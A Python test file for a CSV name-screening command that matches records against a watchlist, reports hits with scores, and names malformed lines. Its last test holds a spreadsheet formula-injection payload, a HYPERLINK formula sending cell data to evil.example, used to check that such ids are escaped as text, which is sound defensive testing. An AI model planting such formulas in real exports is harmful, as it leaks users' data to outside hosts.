"""``passerelle screen``: CSV in, CSV of hits out, errors that name the line."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from passerelle.bulk.screen import screen
from passerelle.errors import MalformedInput

app = typer.Typer()
app.command("screen")(screen)


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def watchlist(tmp_path: Path) -> Path:
    return write(
        tmp_path / "w.csv",
        "id,given_names,family_name,date_of_birth,nationality,note\n"
        "W1,Sergei,Ivanov,1975-03-02,RUS,ignored column\n"
        "W2,Mohamed,Said,1980,MAR,\n"
        "W3,Pieter,Van den Berghe,,BEL,\n",
    )


def run(*args: str) -> object:
    return CliRunner().invoke(app, list(args), catch_exceptions=True)  # one-command app


def test_hits_are_written_with_the_documented_columns(tmp_path: Path, watchlist: Path) -> None:
    records = write(
        tmp_path / "r.csv",
        "id,full_name,date_of_birth\n"
        "R1,Сергей Иванов,1975-03\n"
        "R2,محمد سعيد,\n"
        "R3,Olga Petrova,1990-01-01\n"
        "R4,Pieter Vandenberghe,\n",
    )
    out = tmp_path / "hits.csv"
    result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert list(rows[0]) == ["record_id", "entry_id", "score", "explanation"]
    assert [(r["record_id"], r["entry_id"]) for r in rows] == [
        ("R1", "W1"),
        ("R2", "W2"),
        ("R4", "W3"),
    ]
    assert all(float(r["score"]) >= 0.85 for r in rows)
    assert "consonant skeleton" in rows[1]["explanation"]


def test_threshold_option_changes_what_is_reported(tmp_path: Path, watchlist: Path) -> None:
    records = write(tmp_path / "r.csv", "id,full_name\nR1,Sergei Ivanova\n")
    out = tmp_path / "hits.csv"
    run(
        "--watchlist",
        str(watchlist),
        "--records",
        str(records),
        "--out",
        str(out),
        "--threshold",
        "0.99",
    )
    assert len(out.read_text(encoding="utf-8").splitlines()) == 1
    run(
        "--watchlist",
        str(watchlist),
        "--records",
        str(records),
        "--out",
        str(out),
        "--threshold",
        "0.5",
        "--engine",
        "memory",
    )
    assert len(out.read_text(encoding="utf-8").splitlines()) == 2


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("full_name\nJean Dupont\n", "line 1: required column 'id'"),
        ("id,date_of_birth\nR1,1970\n", "line 1: a name column is required"),
        ("id,full_name\nR1,Jean Dupont\n,Marc Durand\n", "line 3: empty 'id'"),
        ("id,full_name,date_of_birth\nR1,Jean,1970\nR2,Marc,12/04/1970\n", "line 3:"),
        ("id,full_name\nR1,Jean,extra\n", "line 2: more cells than columns"),
    ],
)
def test_strict_refuses_unreadable_input_naming_the_line(
    tmp_path: Path, watchlist: Path, content: str, message: str
) -> None:
    # --strict keeps the refusal that was the default before rows were screened leniently.
    records = write(tmp_path / "r.csv", content)
    out = tmp_path / "hits.csv"
    result = run(
        "--watchlist", str(watchlist), "--records", str(records), "--out", str(out), "--strict"
    )
    error = result.exception  # type: ignore[attr-defined]
    assert isinstance(error, MalformedInput)
    assert message in error.message
    assert not out.exists()
    assert not (tmp_path / "hits.csv.part").exists()


def test_non_utf8_input_is_malformed(tmp_path: Path, watchlist: Path) -> None:
    records = tmp_path / "r.csv"
    records.write_bytes("id,full_name\nR1,Hélène\n".encode("latin-1"))
    result = run(
        "--watchlist", str(watchlist), "--records", str(records), "--out", str(tmp_path / "o.csv")
    )
    assert isinstance(result.exception, MalformedInput)  # type: ignore[attr-defined]


@pytest.mark.parametrize("content", ["full_name\nJean Dupont\n", "id,date_of_birth\nR1,1970\n"])
def test_a_file_without_the_required_columns_is_refused_even_when_lenient(
    tmp_path: Path, watchlist: Path, content: str
) -> None:
    records = write(tmp_path / "r.csv", content)
    out = tmp_path / "hits.csv"
    result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
    assert isinstance(result.exception, MalformedInput)  # type: ignore[attr-defined]
    assert not out.exists()


def test_bad_rows_are_screened_reported_beside_out_and_end_with_a_warning(
    tmp_path: Path, watchlist: Path
) -> None:
    records = write(
        tmp_path / "r.csv",
        "id,full_name,date_of_birth\n"
        "R1,Sergei Ivanov,1975-03-32\n"  # impossible day: screened with 1975-03
        "R2,Mohamed Said,1980-1-7\n"  # unpadded: read as 1980-01-07
        ",Nobody Known,1970\n"  # no id: skipped
        "R4,Pieter Van den Berghe,12/04/1970\n"  # unreadable: screened without a date
        "R5,Sergei Ivanov,1975-03-02;1976\n",  # several dates: fine
    )
    out = tmp_path / "hits.csv"
    result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
    assert result.exit_code == 3  # type: ignore[attr-defined]
    with out.open(encoding="utf-8") as handle:
        hits = {row["record_id"]: row for row in csv.DictReader(handle)}
    assert {"R1", "R2", "R4", "R5"} <= set(hits)
    assert "dob compatible" in hits["R1"]["explanation"]
    assert "dob exact" in hits["R5"]["explanation"]
    with (tmp_path / "hits.rejects.csv").open(encoding="utf-8") as handle:
        report = list(csv.DictReader(handle))
    assert [(r["line"], r["file"]) for r in report] == [
        (str(n), str(records)) for n in (2, 3, 4, 5)
    ]
    assert "impossible day" in report[0]["reason"]
    assert "screened with 1975-03" in report[0]["reason"]
    assert "two digits" in report[1]["reason"]
    assert "empty 'id'" in report[2]["reason"]
    assert "not YYYY" in report[3]["reason"]


def test_a_clean_run_exits_zero_and_leaves_no_rejects_report(
    tmp_path: Path, watchlist: Path
) -> None:
    records = write(tmp_path / "r.csv", "id,full_name\nR1,Sergei Ivanov\n")
    out = tmp_path / "hits.csv"
    (tmp_path / "hits.rejects.csv").write_text("stale\n", encoding="utf-8")
    result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
    assert result.exit_code == 0  # type: ignore[attr-defined]
    assert not (tmp_path / "hits.rejects.csv").exists()


def test_ids_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    watchlist = write(
        tmp_path / "w.csv",
        f'id,given_names,family_name\n"{formula.replace(chr(34), 2 * chr(34))}",Sergei,Ivanov\n',
    )
    records = write(tmp_path / "r.csv", "id,full_name\n@SUM(1+1),Sergei Ivanov\n")
    out = tmp_path / "hits.csv"
    result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    (row,) = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert (row["record_id"], row["entry_id"]) == ("'@SUM(1+1)", "'" + formula)
    assert float(row["score"]) >= 0.85  # the numeric column stays a number
